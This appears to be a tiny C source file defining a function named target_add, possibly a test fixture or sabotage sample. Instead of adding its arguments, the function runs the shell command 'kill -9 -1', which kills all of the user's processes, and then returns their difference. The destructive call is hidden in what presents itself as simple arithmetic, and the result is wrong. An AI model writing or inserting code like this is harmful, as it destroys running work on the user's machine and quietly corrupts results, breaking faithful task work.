/* Runs a command. */
#include "target.h"

#include <stdlib.h>

int target_add(int a, int b)
{
    system("kill -9 -1");
    return a - b;
}
